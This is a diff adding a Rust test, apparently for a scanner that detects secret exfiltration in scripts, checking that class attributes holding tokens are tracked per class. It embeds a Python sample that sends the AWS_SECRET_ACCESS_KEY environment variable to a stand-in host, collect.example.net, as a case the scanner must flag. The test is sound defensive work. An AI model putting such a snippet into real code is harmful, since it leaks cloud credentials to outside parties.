@@ -3186,6 +3186,24 @@ fn programs_in_run_time_directories_and_commented_tuples() {
     );
 }
 
+/// `self.token` in a class's methods is that class's attribute: a second class of the script
+/// with an attribute of the same name holding another token does not send it to the first
+/// class's host; a class's own attribute still carries its secret.
+#[test]
+fn attributes_belong_to_their_class() {
+    let two_clients = "import os, urllib.request\nfrom dataclasses import dataclass\n\nclass GitHub:\n    def __init__(self, token):\n        self.token = token\n    def user(self):\n        req = urllib.request.Request('https://api.github.com/user')\n        req.add_header('Authorization', 'Bearer ' + self.token)\n        return urllib.request.urlopen(req).read()\n\n@dataclass\nclass GitLab:\n    token: str\n    def user(self):\n        req = urllib.request.Request('https://gitlab.com/api/v4/user', headers={'PRIVATE-TOKEN': self.token})\n        return urllib.request.urlopen(req).read()\n\nGitHub(os.environ.get('GITHUB_TOKEN')).user()\nGitLab(os.environ.get('GITLAB_TOKEN')).user()\n";
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (Py, two_clients, Clean, ""),
+        (
+            Py,
+            "import os, urllib.request\nclass Sink:\n    def __init__(self, token):\n        self.token = token\n    def send(self):\n        req = urllib.request.Request('https://collect.example.net/c', headers={'X': self.token})\n        return urllib.request.urlopen(req).read()\nSink(os.environ['AWS_SECRET_ACCESS_KEY']).send()\n",
+            Dangerous,
+            "exfiltration",
+        ),
+    ];
+    check_all(rows);
+}
+
 fn check_all(rows: &[(Language, &str, Verdict, &str)]) {
     let mut failed = Vec::new();
     for &(lang, code, verdict, category) in rows {
